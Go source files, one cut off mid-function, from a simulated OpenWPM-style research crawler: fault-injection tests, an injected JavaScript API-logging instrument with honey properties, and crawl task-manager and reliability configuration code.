	if !v.Salvaged || v.OK || v.ErrorClass != faults.ClassHang.String() {
		t.Fatalf("visit record: %+v", v)
	}
	// salvage keeps the partial front page but does not descend into subpages
	for _, v := range tm.Storage.Visits {
		if v.Subpage {
			t.Fatalf("salvaged site must not visit subpages: %+v", v)
		}
	}
}

func TestCrashSalvageKeepsPartialRecords(t *testing.T) {
	ft := &faultTransport{
		inner: &web{pages: frontSite()},
		errs:  map[string]error{"https://a.com/boom.js": &faults.FaultError{Kind: faults.KindCrash, URL: "https://a.com/boom.js"}},
	}
	tm := hardenedTM(ft, func(c *CrawlConfig) { c.MaxRetries = 1 })
	rep := tm.Crawl([]string{"https://a.com/"})
	if rep.Salvaged != 1 || !rep.Accounted() {
		t.Fatalf("report: %+v", rep)
	}
	if rep.ErrorClasses[faults.ClassCrash.String()] != 1 {
		t.Fatalf("error classes: %v", rep.ErrorClasses)
	}
	// the pre-crash records survived: the main document and ok.js were seen
	seen := map[string]bool{}
	for _, r := range tm.Storage.Requests {
		seen[r.URL] = true
	}
	if !seen["https://a.com/"] || !seen["https://a.com/ok.js"] {
		t.Fatalf("partial request records lost: %v", seen)
	}
	for _, c := range tm.Storage.Crashes {
		if c.Class != faults.ClassCrash.String() {
			t.Fatalf("crash record class: %+v", c)
		}
	}
}

// dropRequests is a transport whose storage hook loses every http_requests
// write — the paper's "silent data loss" failure mode, made loud.
type dropRequests struct{ *web }

func (dropRequests) StorageFault(table string) bool { return table == "http_requests" }

func TestStorageFaultsCountedNotSilent(t *testing.T) {
	tm := hardenedTM(dropRequests{&web{pages: frontSite()}}, nil)
	rep := tm.Crawl([]string{"https://a.com/"})
	if rep.Completed != 1 {
		t.Fatalf("report: %+v", rep)
	}
	if len(tm.Storage.Requests) != 0 {
		t.Fatalf("faulted table still has %d rows", len(tm.Storage.Requests))
	}
	if rep.DroppedWrites == 0 || tm.Storage.Dropped["http_requests"] != rep.DroppedWrites {
		t.Fatalf("drops not accounted: report=%d storage=%v", rep.DroppedWrites, tm.Storage.Dropped)
	}
	// visit accounting is exempt from storage faults by design
	if len(tm.Storage.Visits) == 0 {
		t.Fatal("visit table must survive storage faults")
	}
}

func TestCircuitBreakerSkipsRemainingSubpages(t *testing.T) {
	pages := frontSite() // links to /p1 /p2 /p3, none of which exist → 404
	tm := hardenedTM(&web{pages: pages}, func(c *CrawlConfig) {
		c.MaxSubpages = 3
		c.BreakerThreshold = 2
	})
	sv, err := tm.VisitSite("https://a.com/")
	if err != nil {
		t.Fatal(err)
	}
	if !sv.CircuitBroken {
		t.Fatal("breaker did not trip")
	}
	if sv.PageErrors != 2 {
		t.Fatalf("PageErrors = %d, want 2 (breaker at threshold)", sv.PageErrors)
	}
	rep := NewCrawlReport()
	rep.Absorb(sv, nil)
	if rep.CircuitBroken != 1 || rep.PageVisits != 3 { // front + 2 failed subpages
		t.Fatalf("report: %+v", rep)
	}
}

func TestCheckpointResumeMatchesOneShot(t *testing.T) {
	urls := []string{"https://a.com/", "https://gone.com/", "notaurl", "https://a.com/"}
	build := func() *TaskManager {
		return hardenedTM(&web{pages: frontSite()}, func(c *CrawlConfig) { c.MaxSubpages = 2 })
	}

	oneShot := build().Crawl(urls)

	tm := build()
	cp := &Checkpoint{}
	tm.CrawlFrom(urls[:2], cp) // interrupted after two sites
	if cp.Done != 2 {
		t.Fatalf("checkpoint Done = %d, want 2", cp.Done)
	}
	resumed := tm.CrawlFrom(urls, cp)

	if !reflect.DeepEqual(oneShot, resumed) {
		t.Fatalf("resumed crawl diverged:\none-shot: %+v\nresumed:  %+v", oneShot, resumed)
	}
	if oneShot.String() != resumed.String() {
		t.Fatalf("reports render differently:\n%s\n%s", oneShot, resumed)
	}
}

func TestCrawlBudgetSkipsAreAccounted(t *testing.T) {
	ft := &faultTransport{
		inner: &web{pages: frontSite()},
		delay: map[string]float64{"https://a.com/": 100},
	}
	tm := hardenedTM(ft, func(c *CrawlConfig) { c.MaxCrawlSeconds = 150; c.MaxVisitSeconds = 0 })
	urls := []string{"https://a.com/", "https://a.com/", "https://a.com/", "https://a.com/"}
	rep := tm.Crawl(urls)
	if !rep.Accounted() {
		t.Fatalf("unaccounted report: %+v", rep)
	}
	if rep.Skipped == 0 {
		t.Fatalf("budget exhaustion produced no skips: %+v", rep)
	}
	// skipped sites still get a visit record, never vanish
	if len(tm.Storage.Visits) < len(urls) {
		t.Fatalf("only %d visit records for %d input sites", len(tm.Storage.Visits), len(urls))
	}
	if rep.ErrorClasses["crawl-budget"] != rep.Skipped {
		t.Fatalf("error classes: %v", rep.ErrorClasses)
	}
}

// TestFaultRecoveryProperty: for any world seed, a hardened crawl under
// recoverable transient faults visits exactly the sites a fault-free crawl
// visits — faults change the road, not the destination.
func TestFaultRecoveryProperty(t *testing.T) {
	const n = 6
	urls := websim.Tranco(n)

	frontRecords := func(tm *TaskManager) map[string]bool {
		out := map[string]bool{}
		for _, v := range tm.Storage.Visits {
			if !v.Subpage {
				out[v.SiteURL] = true
			}
		}
		return out
	}

	prop := func(seed uint8) bool {
		worldSeed := int64(seed)
		crawl := func(faulted bool) (*CrawlReport, map[string]bool) {
			world := websim.New(websim.Options{Seed: worldSeed, NumSites: n})
			var transport httpsim.RoundTripper = world
			if faulted {
				transport = faults.NewInjector(worldSeed+1, faults.Profile{
					Buckets:               []faults.Bucket{{TransportPerMille: 300}},
					TransientRecoverAfter: 1,
				}, world)
			}
			tm := hardenedTM(transport, nil)
			return tm.Crawl(urls), frontRecords(tm)
		}
		cleanRep, cleanSites := crawl(false)
		faultRep, faultSites := crawl(true)
		return cleanRep.Accounted() && faultRep.Accounted() &&
			cleanRep.Failed == 0 && faultRep.Failed == 0 &&
			len(cleanSites) == n && reflect.DeepEqual(cleanSites, faultSites)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 5}); err != nil {
		t.Fatal(err)
	}
}

// TestCrawlReportDeterministic: same fault seed, same world seed ⇒ the same
// CrawlReport, byte for byte.
func TestCrawlReportDeterministic(t *testing.T) {
	run := func() string {
		world := websim.New(websim.Options{Seed: 5, NumSites: 20})
		inj := faults.NewInjector(99, faults.HeavyProfile(), world)
		inj.RankOf = func(u string) int { return websim.RankOf(httpsim.Host(u)) }
		tm := hardenedTM(inj, func(c *CrawlConfig) { c.MaxSubpages = 2 })
		return tm.Crawl(websim.Tranco(12)).String()
	}
	a, b := run(), run()
	if a != b {
		t.Fatalf("same seeds produced different reports:\n%s\n%s", a, b)
	}
}
