package openwpm

import (
	"fmt"

	"gullible/internal/browser"
	"gullible/internal/jsdom"
	"gullible/internal/minjs"
)

// InstrumentScriptName is the script URL instrumentation frames show in
// stack traces — one of the tells of Sec. 3.1.4.
const InstrumentScriptName = "openwpm-instrument.js"

// vanillaInstrumentJS is the page-context instrumentation OpenWPM injects.
// It reproduces the paper's observable behaviour faithfully:
//
//   - wrappers are page-context script functions, so Function.prototype
//     .toString exposes them (Listing 1) and they appear in stack traces;
//   - every hooked property is (re)defined on the FIRST prototype of the
//     instrumented instance, polluting multi-level prototype chains (Fig. 2);
//   - records travel through document.dispatchEvent tagged with a random
//     event id — interceptable and forgeable by the page (Secs. 5.1, 5.2);
//   - a helper function remains on window (getInstrumentJS, or the two
//     legacy globals of OpenWPM 0.10.0), a unique identifying property;
//   - wrapped getters swallow brand-check errors, so prototype-level access
//     no longer throws (Sec. 6.1.1).
const vanillaInstrumentJS = `(function () {
    var cfg = window.__wpmCfg;
    delete window.__wpmCfg;
    var logSettings = { logCallStack: false };

    function extractScriptUrl(stack) {
        var lines = stack.split("\n");
        for (var i = 0; i < lines.length; i++) {
            var line = lines[i];
            if (line === "") { continue; }
            if (line.indexOf("openwpm-instrument.js") >= 0) { continue; }
            if (line.indexOf("@native") >= 0) { continue; }
            var at = line.indexOf("@");
            if (at < 0) { continue; }
            var rest = line.slice(at + 1);
            var colon = rest.lastIndexOf(":");
            if (colon > 0) { rest = rest.slice(0, colon); }
            return rest;
        }
        return "";
    }

    function getOriginatingScriptContext(logCallStack) {
        var stack = "";
        try { throw new Error(""); } catch (e) { stack = e.stack; }
        return { scriptUrl: extractScriptUrl(stack), callStack: logCallStack ? stack : "" };
    }

    function logCall(name, args, callContext, logSettings) {
        var parts = [];
        for (var i = 0; i < args.length; i++) { parts.push("" + args[i]); }
        document.dispatchEvent(new CustomEvent(cfg.id, { detail: {
            symbol: name, operation: "call", args: parts.join(","),
            scriptUrl: callContext.scriptUrl
        }}));
    }

    function logValue(name, value, operation, callContext, logSettings) {
        document.dispatchEvent(new CustomEvent(cfg.id, { detail: {
            symbol: name, operation: operation, value: "" + value,
            scriptUrl: callContext.scriptUrl
        }}));
    }

    function findDescriptor(obj, name) {
        var proto = Object.getPrototypeOf(obj);
        while (proto !== null && proto !== undefined) {
            var d = Object.getOwnPropertyDescriptor(proto, name);
            if (d !== undefined) { return d; }
            proto = Object.getPrototypeOf(proto);
        }
        return undefined;
    }

    function instrumentFunction(target, objectName, methodName, func) {
        var wrapper = function () {
            const callContext = getOriginatingScriptContext(!!logSettings.logCallStack);
            logCall(objectName + "." + methodName, arguments, callContext, logSettings);
            return func.apply(this, arguments);
        };
        Object.defineProperty(target, methodName, {
            enumerable: true,
            configurable: true,
            get: function () { return wrapper; },
            set: function (value) {
                const callContext = getOriginatingScriptContext(!!logSettings.logCallStack);
                logValue(objectName + "." + methodName, value, "set", callContext, logSettings);
            }
        });
    }

    function instrumentProperty(target, objectName, propertyName, desc) {
        var origGet = desc.get;
        var origSet = desc.set;
        Object.defineProperty(target, propertyName, {
            enumerable: true,
            configurable: true,
            get: function () {
                const callContext = getOriginatingScriptContext(!!logSettings.logCallStack);
                var value;
                try { value = origGet.call(this); } catch (e) { value = undefined; }
                logValue(objectName + "." + propertyName, value, "get", callContext, logSettings);
                return value;
            },
            set: function (value) {
                const callContext = getOriginatingScriptContext(!!logSettings.logCallStack);
                logValue(objectName + "." + propertyName, value, "set", callContext, logSettings);
                if (origSet !== undefined && origSet !== null) { origSet.call(this, value); }
            }
        });
    }

    function instrumentObject(obj, objectName, propertyName) {
        if (obj === null || obj === undefined) { return; }
        var target = Object.getPrototypeOf(obj);
        if (target === null || target === undefined) { return; }
        var desc = findDescriptor(obj, propertyName);
        if (desc === undefined) { return; }
        if (desc.get !== undefined || desc.set !== undefined) {
            instrumentProperty(target, objectName, propertyName, desc);
        } else if (typeof desc.value === "function") {
            instrumentFunction(target, objectName, propertyName, desc.value);
        }
    }

    function instrumentOnPrototype(proto, objectName, propertyName) {
        var desc = Object.getOwnPropertyDescriptor(proto, propertyName);
        if (desc === undefined) { return; }
        if (desc.get !== undefined || desc.set !== undefined) {
            instrumentProperty(proto, objectName, propertyName, desc);
        } else if (typeof desc.value === "function") {
            instrumentFunction(proto, objectName, propertyName, desc.value);
        }
    }

    // Object-addressed targets are hooked via their instance's FIRST
    // prototype (the Fig. 2 pollution); interface-addressed targets are
    // hooked on the interface prototype itself.
    var targets = {
        Navigator: { obj: navigator, onProto: false },
        Screen: { obj: screen, onProto: false },
        Document: { obj: document, onProto: false },
        HTMLCanvasElement: { obj: HTMLCanvasElement.prototype, onProto: true },
        CanvasRenderingContext2D: { obj: CanvasRenderingContext2D.prototype, onProto: true },
        WebGLRenderingContext: { obj: WebGLRenderingContext.prototype, onProto: true },
        AudioContext: { obj: AudioContext.prototype, onProto: true }
    };
    for (var i = 0; i < cfg.apis.length; i++) {
        var api = cfg.apis[i];
        var t = targets[api.iface];
        if (t === undefined) { continue; }
        if (t.onProto) { instrumentOnPrototype(t.obj, api.iface, api.name); }
        else { instrumentObject(t.obj, api.iface, api.name); }
    }

    // Marker globals are installed as logging accessors so the instrument
    // observes scripts probing for them (the Table 6 measurements).
    function attachMarker(obj, prefix, name, value) {
        Object.defineProperty(obj, name, {
            enumerable: true,
            configurable: true,
            get: function () {
                const callContext = getOriginatingScriptContext(!!logSettings.logCallStack);
                logValue(prefix + name, "", "get", callContext, logSettings);
                return value;
            }
        });
    }
    // The active build's globals expose real functions; the other versions'
    // names become logging traps returning undefined, so the scan client
    // observes probes for every known OpenWPM marker (Table 6) without
    // changing visible behaviour.
    if (cfg.legacy) {
        attachMarker(window, "window.", "jsInstruments", function jsInstruments() { return true; });
        attachMarker(window, "window.", "instrumentFingerprintingApis", function instrumentFingerprintingApis(settings) { return true; });
        attachMarker(window, "window.", "getInstrumentJS", undefined);
    } else {
        attachMarker(window, "window.", "getInstrumentJS", function getInstrumentJS() { return true; });
        attachMarker(window, "window.", "jsInstruments", undefined);
        attachMarker(window, "window.", "instrumentFingerprintingApis", undefined);
    }

    // Honey properties (Sec. 4.1.3): randomly named bait on navigator and
    // window; only property iterators touch them all.
    for (var h = 0; h < cfg.honey.length; h++) {
        attachMarker(navigator, "honey:", cfg.honey[h], "");
        attachMarker(window, "honey:", cfg.honey[h], "");
    }
})();`

// vanillaProgram is parsed and bytecode-compiled once at init; every realm
// of every visit reuses the same immutable compiled program.
var vanillaProgram = minjs.MustCompile(minjs.MustParse(vanillaInstrumentJS, InstrumentScriptName))

// Instrumentor is a pluggable JS instrumentation strategy; the vanilla
// JSInstrument and stealth's hardened instrument both implement it.
type Instrumentor interface {
	Name() string
	// OnWindow is called synchronously whenever the browser creates a realm.
	OnWindow(b *browser.Browser, st *Storage, d *jsdom.DOM, top bool)
	// TopInstallError reports whether instrumenting the CURRENT top window
	// failed (e.g. blocked by CSP).
	TopInstallError() error
}

// JSInstrument is OpenWPM's vanilla JavaScript instrument.
type JSInstrument struct {
	// Legacy selects the OpenWPM 0.10.0 window globals (jsInstruments and
	// instrumentFingerprintingApis) instead of getInstrumentJS.
	Legacy bool
	// EventID tags instrumentation messages; freshly randomised per attach.
	EventID string
	// HoneyProps are randomly named bait properties added to navigator and
	// window to catch property iterators (Sec. 4.1.3).
	HoneyProps []string

	topErr error
	serial int

	// apisTemplate caches the API list as realm-independent minjs objects
	// (nil prototypes): the list is identical for every realm of an OS
	// build, and the injected script deletes its reference before page
	// code runs.
	apisTemplate *minjs.Object
	honeyArr     *minjs.Object
}

// Name implements Instrumentor.
func (ji *JSInstrument) Name() string { return "js_instrument" }

// TopInstallError implements Instrumentor.
func (ji *JSInstrument) TopInstallError() error { return ji.topErr }

// newEventID derives the per-session random message id.
func (ji *JSInstrument) newEventID(clientID string) string {
	ji.serial++
	h := uint64(14695981039346656037)
	for _, c := range []byte(fmt.Sprintf("%s-%d", clientID, ji.serial)) {
		h = (h ^ uint64(c)) * 1099511628211
	}
	return fmt.Sprintf("openwpm-%08x", uint32(h))
}

// OnWindow installs the instrumentation into a new realm. Top windows are
// instrumented synchronously via DOM injection (CSP applies); subframes a
// tick later — the unobserved-channel window of Sec. 5.4.1.
func (ji *JSInstrument) OnWindow(b *browser.Browser, st *Storage, d *jsdom.DOM, top bool) {
	if ji.EventID == "" {
		ji.EventID = ji.newEventID(b.Opts.ClientID)
	}
	eventID := ji.EventID
	frameURL := d.URL
	d.ListenHostEvent(eventID, func(ev minjs.Value) {
		detail, _ := d.It.GetMember(ev, "detail")
		call := JSCall{
			TopURL:   b.FinalURL(), // host-side: unforgeable
			FrameURL: frameURL,
			Time:     b.Now(),
		}
		if detail.IsObject() {
			get := func(k string) string {
				v, _ := d.It.GetMember(detail, k)
				if v.IsNullish() {
					return ""
				}
				return v.ToString()
			}
			call.Symbol = get("symbol")
			call.Operation = get("operation")
			call.Value = get("value")
			call.Args = get("args")
			call.ScriptURL = get("scriptUrl")
		}
		st.AddJSCall(call)
	})

	if ji.apisTemplate == nil {
		ji.apisTemplate = buildAPITemplate(d)
		ji.honeyArr = minjs.NewArray(nil)
		for _, h := range ji.HoneyProps {
			ji.honeyArr.Elems = append(ji.honeyArr.Elems, minjs.String(h))
		}
	}
	install := func() error {
		cfg := minjs.NewObject(nil)
		cfg.Set("id", minjs.String(eventID))
		cfg.Set("legacy", minjs.Boolean(ji.Legacy))
		cfg.Set("apis", minjs.ObjectValue(ji.apisTemplate))
		cfg.Set("honey", minjs.ObjectValue(ji.honeyArr))
		d.Window.Set("__wpmCfg", minjs.ObjectValue(cfg))
		return b.InjectPageProgram(d, vanillaProgram)
	}
	if top {
		ji.topErr = install()
		return
	}
	b.ScheduleTask(d, func() {
		// subframe injection is best-effort by design: the page record's
		// InstrumentInstalled bit tracks the top document only, and a failed
		// subframe realm yields no probe events rather than a broken page
		_ = install()
	})
}

// setWpmCfg provisions the transient __wpmCfg global the injected script
// consumes (and deletes).
// buildAPITemplate materialises the API list once as prototype-less objects
// safe to share across realms.
func buildAPITemplate(d *jsdom.DOM) *minjs.Object {
	apis := minjs.NewArray(nil)
	for _, a := range d.InstrumentableAPIs() {
		o := minjs.NewObject(nil)
		o.Set("iface", minjs.String(a.Interface))
		o.Set("name", minjs.String(a.Name))
		apis.Elems = append(apis.Elems, minjs.ObjectValue(o))
	}
	return apis
}
