package openwpm

import (
	"fmt"
	"strings"

	"gullible/internal/browser"
	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
)

// CrawlConfig selects platform, run mode, instruments and crawl behaviour.
type CrawlConfig struct {
	OS             jsdom.OS
	Mode           jsdom.Mode
	FirefoxVersion int

	Transport httpsim.RoundTripper
	ClientID  string
	// DwellSeconds is the post-load idle time (60 s in the paper's scans).
	DwellSeconds float64

	// Instrument toggles.
	JSInstrument     bool
	HTTPInstrument   bool
	CookieInstrument bool
	// HTTPFilterJSOnly stores only JavaScript response bodies instead of
	// all bodies (Sec. 5.4.2 attacks this mode).
	HTTPFilterJSOnly bool
	// LegacyInstrumentGlobals selects the OpenWPM 0.10.0 window globals.
	LegacyInstrumentGlobals bool
	// HoneyProps adds this many randomly named bait properties to navigator
	// and window to identify property iterators (Sec. 4.1.3).
	HoneyProps int

	// Stealth, when non-nil, replaces the vanilla JS instrument with a
	// hardened one (package stealth) and masks automation.
	Stealth Instrumentor

	// MaxSubpages is how many same-site subpages to visit after the front
	// page (the paper's scan uses 3).
	MaxSubpages int
	// SimulateInteraction fires mouseover/scroll listeners after page load.
	// OpenWPM's default crawls perform no interaction (Table 1), which is
	// why hover-gated detection code never executes under dynamic analysis;
	// this option closes that gap.
	SimulateInteraction bool
	// MaxRetries bounds browser restarts per page on failure.
	MaxRetries int
}

// SiteVisit is the outcome of visiting a site (front page + subpages).
type SiteVisit struct {
	Site     string
	Front    *browser.VisitResult
	Subpages []*browser.VisitResult
	// Restarts counts browser-manager recoveries during this site.
	Restarts int
}

// TaskManager orchestrates crawls: it creates browsers, attaches
// instruments, visits sites and funnels records to Storage.
type TaskManager struct {
	Cfg     CrawlConfig
	Storage *Storage

	js        Instrumentor
	browserNo int
}

// NewTaskManager creates a TaskManager with fresh storage.
func NewTaskManager(cfg CrawlConfig) *TaskManager {
	if cfg.DwellSeconds == 0 {
		cfg.DwellSeconds = 60
	}
	if cfg.MaxRetries == 0 {
		cfg.MaxRetries = 2
	}
	if cfg.ClientID == "" {
		cfg.ClientID = "openwpm-client"
	}
	tm := &TaskManager{Cfg: cfg, Storage: NewStorage()}
	if cfg.Stealth != nil {
		tm.js = cfg.Stealth
	} else if cfg.JSInstrument {
		tm.js = &JSInstrument{
			Legacy:     cfg.LegacyInstrumentGlobals,
			HoneyProps: HoneyNames(cfg.ClientID, cfg.HoneyProps),
		}
	}
	return tm
}

// HoneyNames derives n random-looking property names, stable per client so
// analyses can recognise them later.
func HoneyNames(seed string, n int) []string {
	var out []string
	h := uint64(14695981039346656037)
	for _, c := range []byte(seed) {
		h = (h ^ uint64(c)) * 1099511628211
	}
	for i := 0; i < n; i++ {
		h = (h ^ uint64(i+1)) * 1099511628211
		out = append(out, fmt.Sprintf("zx%08x", uint32(h)))
	}
	return out
}

// NewBrowser builds a fresh, instrumented browser (a fresh profile: the
// default OpenWPM crawl is stateless across sites).
func (tm *TaskManager) NewBrowser() *browser.Browser {
	cfg := jsdom.StandardConfig(tm.Cfg.OS, tm.Cfg.Mode, tm.firefoxVersion(), tm.browserNo)
	tm.browserNo++
	b := browser.New(browser.Options{
		Config:       cfg,
		Transport:    tm.Cfg.Transport,
		ClientID:     tm.Cfg.ClientID,
		DwellSeconds: tm.Cfg.DwellSeconds,
	})
	tm.attach(b)
	return b
}

func (tm *TaskManager) firefoxVersion() int {
	if tm.Cfg.FirefoxVersion == 0 {
		return 90
	}
	return tm.Cfg.FirefoxVersion
}

// attach wires the configured instruments into a browser.
func (tm *TaskManager) attach(b *browser.Browser) {
	st := tm.Storage
	if tm.js != nil {
		js := tm.js
		b.OnWindowCreated = func(d *jsdom.DOM, top bool) {
			js.OnWindow(b, st, d, top)
		}
	}
	if tm.Cfg.HTTPInstrument {
		AttachHTTPInstrument(b, st, tm.Cfg.HTTPFilterJSOnly)
	}
	if tm.Cfg.CookieInstrument {
		AttachCookieInstrument(b, st)
	}
}

// VisitSite crawls one site: the front page and up to MaxSubpages same-site
// subpages, with browser restarts on failure (the BrowserManager role).
func (tm *TaskManager) VisitSite(url string) (*SiteVisit, error) {
	bm := &BrowserManager{tm: tm}
	sv := &SiteVisit{Site: url}

	front, err := bm.Visit(url)
	sv.Restarts = bm.Restarts
	if err != nil {
		tm.recordVisit(url, nil, false, err)
		return sv, err
	}
	sv.Front = front
	tm.recordVisit(url, front, false, nil)

	// Subpage selection (Sec. 4.1.2): same-eTLD+1 links from the landing
	// page, deduplicated, capped.
	if tm.Cfg.MaxSubpages > 0 {
		for _, sub := range SelectSubpages(front.FinalURL, front.Links, tm.Cfg.MaxSubpages) {
			res, err := bm.Visit(sub)
			sv.Restarts = bm.Restarts
			if err != nil {
				tm.recordVisit(sub, nil, true, err)
				continue
			}
			// same-origin redirects to foreign domains are skipped
			if res.OffDomain {
				tm.recordVisit(sub, res, true, fmt.Errorf("left site via redirect"))
				continue
			}
			sv.Subpages = append(sv.Subpages, res)
			tm.recordVisit(sub, res, true, nil)
		}
	}
	return sv, nil
}

func (tm *TaskManager) recordVisit(url string, res *browser.VisitResult, subpage bool, err error) {
	rec := VisitRecord{SiteURL: url, Subpage: subpage}
	if err != nil {
		rec.Error = err.Error()
	} else if res != nil {
		rec.OK = true
		rec.FinalURL = res.FinalURL
		rec.CSPReports = res.CSPReports
		rec.InstrumentInstalled = tm.js == nil || tm.js.TopInstallError() == nil
	}
	tm.Storage.Visits = append(tm.Storage.Visits, rec)
}

// Crawl visits every URL in order; per-site errors are recorded, not fatal.
func (tm *TaskManager) Crawl(urls []string) {
	for _, u := range urls {
		tm.VisitSite(u)
	}
}

// SelectSubpages picks up to max same-site URLs from links.
func SelectSubpages(base string, links []string, max int) []string {
	seen := map[string]bool{base: true}
	var out []string
	for _, l := range links {
		if len(out) >= max {
			break
		}
		if seen[l] || !httpsim.SameSite(base, l) {
			continue
		}
		if strings.HasPrefix(l, "javascript:") {
			continue
		}
		seen[l] = true
		out = append(out, l)
	}
	return out
}

// BrowserManager owns one live browser, restarting it after crashes — the
// monitoring/recovery role of OpenWPM's framework layer.
type BrowserManager struct {
	tm       *TaskManager
	b        *browser.Browser
	Restarts int
}

// Visit loads url, restarting the browser on failure up to MaxRetries.
func (bm *BrowserManager) Visit(url string) (*browser.VisitResult, error) {
	var lastErr error
	for attempt := 0; attempt <= bm.tm.Cfg.MaxRetries; attempt++ {
		if bm.b == nil {
			bm.b = bm.tm.NewBrowser()
		}
		res, err := bm.b.Visit(url)
		if err == nil {
			if bm.tm.Cfg.SimulateInteraction {
				bm.b.FireListeners("mouseover")
				bm.b.FireListeners("scroll")
				bm.b.Idle(5) // let interaction-triggered beacons fire
			}
			return res, nil
		}
		lastErr = err
		// crash: discard the browser and restart with a fresh profile
		bm.b = nil
		bm.Restarts++
	}
	return nil, lastErr
}

// Browser exposes the live browser (tests inspect realms after visits).
func (bm *BrowserManager) Browser() *browser.Browser { return bm.b }

// AttachHTTPInstrument records every request; response bodies are stored
// according to the filter mode.
func AttachHTTPInstrument(b *browser.Browser, st *Storage, filterJSOnly bool) {
	b.OnRequest = func(req *httpsim.Request, resp *httpsim.Response) {
		rec := RequestRecord{
			URL:    req.URL,
			TopURL: req.TopURL,
			Type:   req.Type,
			Method: req.Method,
			Time:   req.Time,
		}
		if resp != nil {
			rec.Status = resp.Status
			rec.CType = resp.Header("Content-Type")
			rec.BodySize = len(resp.Body)
		}
		st.Requests = append(st.Requests, rec)
		if resp == nil || resp.Status != 200 {
			return
		}
		if filterJSOnly {
			if isJavaScript(req, resp) {
				st.AddScriptFile(req.URL, resp.Body, rec.CType)
			}
			return
		}
		st.AddScriptFile(req.URL, resp.Body, rec.CType)
	}
}

// isJavaScript is the JS-only storage filter: resource type, extension or
// content type must say "JavaScript". Sec. 5.4.2 shows how to evade all
// three at once.
func isJavaScript(req *httpsim.Request, resp *httpsim.Response) bool {
	if req.Type == httpsim.TypeScript {
		return true
	}
	if strings.HasSuffix(httpsim.Path(req.URL), ".js") {
		return true
	}
	return strings.Contains(resp.Header("Content-Type"), "javascript")
}

// AttachCookieInstrument records jar writes.
func AttachCookieInstrument(b *browser.Browser, st *Storage) {
	b.OnCookieStored = func(rec browser.CookieRecord) {
		st.Cookies = append(st.Cookies, CookieEntry{
			Name:       Sanitize(rec.Cookie.Name),
			Value:      Sanitize(rec.Cookie.Value),
			Domain:     rec.Cookie.Domain,
			TopURL:     rec.TopURL,
			Expires:    rec.Cookie.Expires,
			ViaJS:      rec.ViaJS,
			FirstParty: rec.FirstParty(),
			Time:       rec.SetAt,
		})
	}
}
