package openwpm

import (
	"errors"
	"fmt"
	"sort"
	"strings"

	"gullible/internal/browser"
	"gullible/internal/faults"
	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/telemetry"
)

// CrawlConfig selects platform, run mode, instruments and crawl behaviour.
type CrawlConfig struct {
	OS             jsdom.OS
	Mode           jsdom.Mode
	FirefoxVersion int

	Transport httpsim.RoundTripper
	ClientID  string
	// DwellSeconds is the post-load idle time (60 s in the paper's scans).
	DwellSeconds float64

	// Instrument toggles.
	JSInstrument     bool
	HTTPInstrument   bool
	CookieInstrument bool
	// HTTPFilterJSOnly stores only JavaScript response bodies instead of
	// all bodies (Sec. 5.4.2 attacks this mode).
	HTTPFilterJSOnly bool
	// LegacyInstrumentGlobals selects the OpenWPM 0.10.0 window globals.
	LegacyInstrumentGlobals bool
	// HoneyProps adds this many randomly named bait properties to navigator
	// and window to identify property iterators (Sec. 4.1.3).
	HoneyProps int

	// Stealth, when non-nil, replaces the vanilla JS instrument with a
	// hardened one (package stealth) and masks automation.
	Stealth Instrumentor

	// MaxSubpages is how many same-site subpages to visit after the front
	// page (the paper's scan uses 3).
	MaxSubpages int
	// SimulateInteraction fires mouseover/scroll listeners after page load.
	// OpenWPM's default crawls perform no interaction (Table 1), which is
	// why hover-gated detection code never executes under dynamic analysis;
	// this option closes that gap.
	SimulateInteraction bool
	// MaxRetries bounds browser restarts per page on failure.
	MaxRetries int

	// --- reliability hardening ------------------------------------------

	// MaxVisitSeconds is the per-visit virtual-clock watchdog: a visit that
	// burns this much virtual time is aborted and classified as a hang.
	// 0 disables the watchdog (vanilla OpenWPM behaviour).
	MaxVisitSeconds float64
	// MaxCrawlSeconds caps the whole crawl's virtual time (visiting plus
	// backoff). Once exhausted, remaining sites are recorded as skipped
	// rather than visited — never silently dropped. 0 means unlimited.
	MaxCrawlSeconds float64
	// BackoffBaseSeconds enables exponential backoff between browser
	// restarts (base * 2^attempt, plus deterministic jitter). 0 disables.
	BackoffBaseSeconds float64
	// BackoffMaxSeconds caps one backoff interval (default unlimited).
	BackoffMaxSeconds float64
	// BreakerThreshold is the per-site circuit breaker: after this many
	// consecutive page failures the remaining subpages of the site are
	// skipped. 0 disables the breaker.
	BreakerThreshold int
	// BlindRetry restores the pre-hardening recovery loop: every error is
	// retried identically, with no classification, no watchdog salvage, no
	// backoff and no breaker. Kept for vanilla-vs-hardened comparisons
	// (experiments.RunReliability).
	BlindRetry bool

	// --- archival -------------------------------------------------------

	// Recorder, when non-nil, archives the crawl into an execution bundle:
	// the transport is wrapped so every HTTP exchange (responses and
	// errors alike) is captured, and the storage layer reports every
	// accepted record. Package bundle provides the implementation.
	Recorder Recorder

	// Backend, when non-nil, is attached as Storage.Backend: every accepted
	// record is also appended durably (package wal). Nil keeps storage
	// memory-only, today's behaviour.
	Backend Backend

	// --- static analysis ------------------------------------------------

	// Tamper, when non-nil, statically analyses every first-seen script
	// body at storage time and persists the resulting TamperRecord next to
	// the content table (internal/analysis provides TamperRecorder).
	Tamper TamperFunc

	// DisableVM runs page scripts on the minjs tree-walking interpreter
	// instead of the bytecode VM. Artifacts are byte-identical either way;
	// this is the escape hatch and the differential-crawl control.
	DisableVM bool

	// --- observability ---------------------------------------------------

	// Telemetry, when non-nil, instruments the whole pipeline: crawl/visit
	// spans over virtual time, outcome and recovery counters, per-table
	// storage metering and HTTP exchange metering. Nil (the default) keeps
	// every instrumentation point a nil check.
	Telemetry *telemetry.Telemetry
}

// Recorder archives a crawl. It observes the storage layer for accepted
// records and interposes on the transport for the raw HTTP exchanges —
// together the two feeds make a crawl replayable offline.
type Recorder interface {
	StorageObserver
	// WrapTransport interposes the recorder on the HTTP path; the returned
	// transport must forward to rt. Wrappers should also preserve the
	// optional StorageFault(table) bool capability of rt so storage-layer
	// fault injection keeps working under recording.
	WrapTransport(rt httpsim.RoundTripper) httpsim.RoundTripper
}

// Hardened fills in the reliability defaults the vanilla configuration
// leaves at zero: watchdog, extra retry, backoff and circuit breaker.
func (c CrawlConfig) Hardened() CrawlConfig {
	if c.MaxVisitSeconds == 0 {
		c.MaxVisitSeconds = 90
	}
	if c.MaxRetries == 0 {
		c.MaxRetries = 3
	}
	if c.BackoffBaseSeconds == 0 {
		c.BackoffBaseSeconds = 1
	}
	if c.BackoffMaxSeconds == 0 {
